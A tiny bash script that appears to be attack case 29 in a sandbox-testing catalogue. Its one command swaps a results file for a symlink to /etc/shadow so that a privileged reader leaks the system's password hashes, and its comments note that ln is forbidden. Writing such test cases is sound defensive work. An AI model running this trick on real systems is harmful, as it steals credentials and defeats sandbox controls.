#!/usr/bin/env bash
# attack-class: 29
# title: swap the result file for a symlink to /etc/shadow
# why: ln is not allowed; a privileged reader of results would follow the link

ln -sf /etc/shadow /workspace/result.json
